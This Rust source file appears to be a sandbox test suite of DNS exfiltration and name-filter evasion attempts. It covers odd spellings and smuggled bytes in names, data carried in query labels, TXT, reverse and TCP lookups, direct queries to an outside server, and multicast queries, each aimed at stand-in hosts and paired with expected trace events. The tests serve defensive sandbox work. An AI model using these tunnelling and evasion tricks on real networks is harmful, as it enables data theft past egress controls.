//! Names: spelt oddly, carrying data, or asked of somebody else.

use std::net::{Ipv4Addr, SocketAddr, ToSocketAddrs};

use super::super::files::any;
use super::BASE;
use super::client::{arrived, at, datagram, has_data, label, name_server, over_stream, question, steal};
use crate::attack::{Attack, Attempt, Event, Failed, Landlock, Proof, Trace};
use crate::internet::NAME_SERVER;
use crate::scene::Scene;

const A: u16 = 1;
const TXT: u16 = 16;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "name-in-other-spellings",
        techniques: &[48],
        about: "Spell a denied name with a trailing dot, in capitals, or in the encoding of international names.",
        attempt: |_| any(["denied.example.", "DENIED.Example", "xn--bcher-kva.example"].map(|name| steal(name, 80))),
        trace: Trace::Event(&[Event("network", "", "denied.example"), Event("network", "", "xn--bcher-kva.example")]),
        ..BASE
    },
    Attack {
        name: "name-with-odd-bytes",
        techniques: &[48],
        about: "Ask for names whose labels hold NUL, line ends, spaces, `@` or `%` next to the allowed name.",
        attempt: |_| {
            any([
                ask(&[b"allowed.example\0", b"denied", b"example"]),
                ask(&[b"allowed.example\r\n", b"denied", b"example"]),
                ask(&[b"allowed.example ", b"denied", b"example"]),
                ask(&[b"allowed.example@denied", b"example"]),
                ask(&[b"denied%2eexample", b"allowed", b"example"]),
            ])
        },
        trace: Trace::Event(&[Event("network", "", "denied")]),
        ..BASE
    },
    Attack {
        name: "name-with-a-dot-in-a-label",
        techniques: &[48],
        about: "Ask for one label that reads like the allowed name, and for the allowed name's labels in one.",
        attempt: |_| any([ask(&[b"allowed.example ", b"tunnel", b"example"]), ask(&[b"@allowed.example"])]),
        trace: Trace::Event(&[Event("network", "", "allowed")]),
        ..BASE
    },
    Attack {
        name: "data-in-labels",
        techniques: &[52],
        about: "Carry data out in the labels of a name that is looked up.",
        attempt: |_| {
            let name = format!("{}.tunnel.example", label("labels"));
            Ok((name.as_str(), 80).to_socket_addrs().map(drop)?)
        },
        proof: Proof::Host(|scene| arrived(scene, "dns-", &label("labels"))),
        trace: Trace::Event(&[Event("network", "", "tunnel.example")]),
        ..BASE
    },
    Attack {
        name: "data-in-labels-of-allowed-host",
        techniques: &[52],
        about: "Carry data out in labels before an allowed name, which its rule does not cover.",
        attempt: |_| Ok((format!("{}.allowed.example", label("sub")).as_str(), 80).to_socket_addrs().map(drop)?),
        proof: Proof::Host(|scene| arrived(scene, "dns-", &label("sub"))),
        trace: Trace::Event(&[Event("network", "", "allowed.example")]),
        ..BASE
    },
    Attack {
        name: "data-in-text-records",
        techniques: &[52],
        about: "Carry data out and back in questions for text records.",
        attempt: |_| {
            let label = label("text");
            has_data(&datagram(name_server()?, &question(&[label.as_bytes(), b"tunnel", b"example"], TXT))?)
        },
        proof: Proof::Host(|scene| arrived(scene, "dns-16", &label("text"))),
        trace: Trace::Event(&[Event("network", "", "tunnel.example")]),
        ..BASE
    },
    Attack {
        name: "text-records-of-allowed-name",
        techniques: &[52],
        about: "Ask for the text records of an allowed name, which its owner may fill as he likes.",
        attempt: |_| has_data(&datagram(name_server()?, &question(&[b"allowed", b"example"], TXT))?),
        proof: Proof::Host(|scene| arrived(scene, "dns-16", "allowed.example")),
        trace: Trace::Silent("the name is allowed, and has no such records inside"),
        ..BASE
    },
    Attack {
        name: "questions-over-tcp",
        techniques: &[52],
        about: "Carry data out in questions over TCP to the name server that is set.",
        attempt: |_| {
            let label = label("tcp");
            has_data(&over_stream(name_server()?, &question(&[label.as_bytes(), b"tunnel", b"example"], A))?)
        },
        proof: Proof::Host(|scene| arrived(scene, "dns-", &label("tcp"))),
        trace: Trace::Event(&[Event("network", "", "tunnel.example")]),
        landlock: Landlock::Trace(Trace::Event(&[Event("network", "connect", ":53")])),
        ..BASE
    },
    Attack {
        name: "other-name-server",
        techniques: &[52],
        about: "Ask a name server outside directly.",
        attempt: |_| {
            let (label, to) = (label("direct"), at(NAME_SERVER, 53));
            let question = question(&[label.as_bytes(), b"tunnel", b"example"], A);
            any([
                datagram(to, &question).map_err(Failed::from).and_then(|answer| has_data(&answer)),
                over_stream(to, &question).map_err(Failed::from).and_then(|answer| has_data(&answer)),
            ])
        },
        proof: Proof::Host(|scene| arrived(scene, "dns-", &label("direct"))),
        trace: Trace::Event(&[Event("network", "", "203.0.113.53:53")]),
        ..BASE
    },
    Attack {
        name: "names-by-multicast",
        techniques: &[52],
        about: "Send questions to the groups of mDNS and LLMNR, which every machine near by hears.",
        attempt: |_| any([multicast([224, 0, 0, 251], 5353), multicast([224, 0, 0, 252], 5355)]),
        trace: Trace::Event(&[Event("network", "", "224.0.0.251:5353"), Event("network", "", "224.0.0.252:5355")]),
        ..BASE
    },
    Attack {
        name: "reverse-names",
        techniques: &[52],
        about: "Carry data out in questions for the names of addresses.",
        attempt: |_| {
            let label = label("reverse");
            datagram(name_server()?, &question(&[label.as_bytes(), b"in-addr", b"arpa"], 12)).map(drop)?;
            Ok(())
        },
        proof: Proof::Host(|scene: &Scene| arrived(scene, "dns-", &label("reverse"))),
        trace: Trace::Silent("programs ask for the names of all sorts of addresses, which is answered inside"),
        ..BASE
    },
];

/// Asks the name server that is set for an address; data in the answer is success.
fn ask(labels: &[&[u8]]) -> Attempt {
    has_data(&datagram(name_server()?, &question(labels, A))?)
}

fn multicast(group: [u8; 4], port: u16) -> Attempt {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    let to = SocketAddr::from((Ipv4Addr::from(group), port));
    Ok(socket.send_to(&question(&[b"canary", b"local"], A), to).map(drop)?)
}
